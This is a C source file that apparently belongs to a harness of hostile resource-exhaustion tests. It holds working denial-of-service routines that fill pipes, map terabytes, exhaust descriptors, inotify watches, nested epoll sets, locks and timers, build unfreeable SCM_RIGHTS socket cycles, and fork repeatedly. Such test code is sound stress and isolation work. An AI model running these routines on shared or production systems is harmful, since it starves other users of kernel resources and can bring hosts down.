/* Attacks on what all share: the user takes as much of it as it gets, keeps it for a while and takes it again. */
#define _GNU_SOURCE
#include "hostile.h"

#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MANY 1500 /* more than a process may have descriptors */

/* Takes the next of the things that the list names, in a process of its own, which gives back by its end. */
static void take(void (*const *things)(void), size_t n)
{
	static size_t next;
	void (*what)(void) = things[next++ % n];
	pid_t pid = fork();

	if (!pid) {
		what();
		usleep(20000);
		_exit(0);
	}
	waitpid(pid, NULL, 0);
}

#define TAKE(...)                                                                \
	do {                                                                     \
		static void (*const things_[])(void) = { __VA_ARGS__ };          \
		take(things_, sizeof(things_) / sizeof(things_[0]));             \
	} while (0)

/* ---- pipes, with all their pages ---- */

static void fill_pipes(void)
{
	static char page[4096];
	int ends[2];

	while (!pipe2(ends, O_NONBLOCK)) {
		for (int size = 1 << 20; size >= 4096 && fcntl(ends[1], F_SETPIPE_SZ, size) < 0;)
			size /= 2;
		while (write(ends[1], page, sizeof(page)) > 0)
			;
	}
}

static void take_pipes(void)
{
	TAKE(fill_pipes);
}

/* ---- mappings ---- */

#define TERABYTE (1UL << 40)

static void map_terabytes(void)
{
	for (int i = 0; i < 20; i++) {
		char *area = mmap(NULL, TERABYTE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);

		/* Each of these needs three pages: one of its own, and two of tables. */
		for (unsigned long at = 0; area != MAP_FAILED && at < TERABYTE; at += TERABYTE / 64)
			area[at] = 1;
	}
}

static void split_mappings(void)
{
	char *area = mmap(NULL, 2 * MANY * 4096UL, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	for (unsigned long i = 0; area != MAP_FAILED && i < MANY; i++)
		mprotect(area + 2 * i * 4096, 4096, PROT_NONE);
}

/* An old length of 0 maps the pages of a shared mapping once more. */
static void duplicate_mappings(void)
{
	char *area = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);

	for (int i = 0; i < MANY / 8 && mremap(area, 0, 1 << 20, MREMAP_MAYMOVE) != MAP_FAILED; i++)
		area[(i * 4096) & 0xfffff] = 1;
}

static void take_mappings(void)
{
	TAKE(map_terabytes, split_mappings, duplicate_mappings);
}

/* ---- descriptors, watches, timers and locks ---- */

static void open_files(void)
{
	while (open("/etc/passwd", O_RDONLY) >= 0)
		;
	for (int i = 0; i < 8; i++)
		fork();
}

static void watch_files(void)
{
	while (inotify_init1(O_NONBLOCK) >= 0)
		;
	close(3);
	for (int i = 0, fd = inotify_init1(O_NONBLOCK); i < MANY; i++) {
		char name[40];

		snprintf(name, sizeof(name), "%d", i);
		close(open(name, O_WRONLY | O_CREAT, 0600));
		inotify_add_watch(fd, name, IN_ALL_EVENTS);
		unlink(name);
	}
}

static void watch_descriptors(void)
{
	struct epoll_event event = { .events = EPOLLIN | EPOLLET };
	int ends[2];

	pipe(ends);
	for (int i = 0; i < 30; i++)
		epoll_create1(0);
	for (int fd; (fd = dup(ends[0])) >= 0;)
		for (int i = 0; i < 30; i++)
			epoll_ctl(ends[1] + 1 + i, EPOLL_CTL_ADD, fd, &event);
	for (int i = 0; i < 3; i++)
		write(ends[1], "x", 1);
}

/* Layers of epoll files: each watches all of the layer below it. */
static void nest_epolls(void)
{
	struct epoll_event event = { .events = EPOLLIN | EPOLLET };
	int ends[2], below[30], n = 1;

	pipe(ends);
	below[0] = ends[0];
	for (int layer = 0; layer < 5; layer++) {
		int above[30];

		for (int i = 0; i < 30; i++) {
			above[i] = epoll_create1(0);
			for (int j = 0; j < n; j++)
				epoll_ctl(above[i], EPOLL_CTL_ADD, below[j], &event);
		}
		memcpy(below, above, sizeof(below));
		n = 30;
	}
	for (int i = 0; i < 20; i++)
		write(ends[1], "x", 1);
}

static void lock_ranges(void)
{
	int fd = open("locks", O_RDWR | O_CREAT, 0600);

	for (int i = 0; i < MANY; i++) {
		struct flock lock = { .l_type = F_WRLCK, .l_start = 2 * i, .l_len = 1 };

		fcntl(fd, F_SETLK, &lock);
	}
}

static void make_timers(void)
{
	struct itimerspec soon = { { 0, 100000 }, { 0, 100000 } };
	struct sigevent event = { .sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGRTMIN };
	timer_t timer;
	sigset_t set;

	sigfillset(&set);
	sigprocmask(SIG_BLOCK, &set, NULL);
	for (int i = 0; i < 300 && !timer_create(CLOCK_MONOTONIC, &event, &timer); i++)
		timer_settime(timer, 0, &soon, NULL);
	for (int i = 0; i < 300; i++)
		sigqueue(getpid(), SIGRTMIN + 1, (union sigval){ 0 });
}

static void take_descriptors(void)
{
	TAKE(open_files, watch_files, watch_descriptors, nest_epolls);
}

static void take_locks(void)
{
	TAKE(lock_ranges, make_timers);
}

/* ---- descriptors in messages, and messages ---- */

static long send_one(int to, int fd)
{
	char byte = 'x', control[CMSG_SPACE(16 * sizeof(int))] = { 0 };
	struct iovec iov = { &byte, 1 };
	struct msghdr message = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof(control) };
	struct cmsghdr *header = CMSG_FIRSTHDR(&message);

	header->cmsg_level = SOL_SOCKET;
	header->cmsg_type = SCM_RIGHTS;
	header->cmsg_len = CMSG_LEN(16 * sizeof(int));
	for (int i = 0; i < 16; i++)
		memcpy(CMSG_DATA(header) + i * sizeof(int), &fd, sizeof(int));
	return sendmsg(to, &message, MSG_DONTWAIT);
}

/* Each socket goes into the queue of the next one: only the collector of garbage can free them. */
static void send_descriptors(void)
{
	int pair[2], last = open("/etc/passwd", O_RDONLY);

	while (!socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) {
		for (int i = 0; i < 10 && send_one(pair[0], last) > 0; i++)
			;
		close(last);
		close(pair[0]);
		last = pair[1];
	}
}

static void fill_sockets(void)
{
	static char page[4096];
	int pair[2];

	for (int i = 0; i < 100 && !socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, pair); i++)
		while (write(pair[0], page, sizeof(page)) > 0)
			;
}

static void take_messages(void)
{
	TAKE(send_descriptors, fill_sockets);
}

const struct attack resource_attacks[] = {
	{ "pipes", "", NULL, NULL, take_pipes },
	{ "mappings", "", NULL, NULL, take_mappings },
	{ "descriptors", "", NULL, NULL, take_descriptors },
	{ "locks", "", NULL, NULL, take_locks },
	{ "messages", "", NULL, NULL, take_messages },
	{ 0 },
};
